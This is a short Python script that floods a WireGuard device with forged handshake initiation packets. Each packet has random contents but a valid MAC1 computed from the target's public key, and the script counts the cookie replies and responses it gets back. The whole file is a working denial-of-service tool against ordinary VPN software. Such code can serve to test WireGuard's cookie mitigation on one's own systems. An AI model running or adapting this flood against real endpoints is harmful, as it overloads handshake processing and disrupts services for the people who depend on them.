#!/usr/bin/env python3
"""Handshake flood against a WireGuard device: N initiations with a valid MAC1
(computed from the target's public key) but garbage contents, from one UDP
socket. Prints how many cookie replies (type 3) and responses (type 2) came
back. usage: flood.py HOST PORT PUBKEY_B64 N"""
import base64, hashlib, os, socket, sys, time

host, port, pub_b64, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
pub = base64.b64decode(pub_b64)
mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.setblocking(False)
replies = {2: 0, 3: 0}

def drain():
    while True:
        try:
            b = s.recv(2048)
        except BlockingIOError:
            return
        if b and b[0] in replies:
            replies[b[0]] += 1

for i in range(n):
    body = bytes([1, 0, 0, 0]) + os.urandom(112)
    mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
    s.sendto(body + mac1 + bytes(16), (host, port))
    if i % 32 == 0:
        drain()
deadline = time.time() + 1.0
while time.time() < deadline:
    drain()
    time.sleep(0.01)
print(replies[3], replies[2])
